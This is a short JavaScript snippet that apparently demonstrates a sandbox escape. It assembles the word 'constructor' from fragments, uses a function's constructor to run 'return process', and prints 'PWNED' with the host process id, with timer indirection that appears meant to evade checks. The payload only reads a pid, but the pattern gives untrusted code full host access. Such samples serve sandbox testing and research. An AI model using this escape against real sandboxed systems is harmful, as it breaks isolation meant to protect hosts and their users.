'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
let kept;
queueMicrotask(() => { kept = t; });
setTimeout(() => { const o = Date.now() > 1 ? kept : {}; console.log('PWNED', o.go(fn)('return process')().pid); });
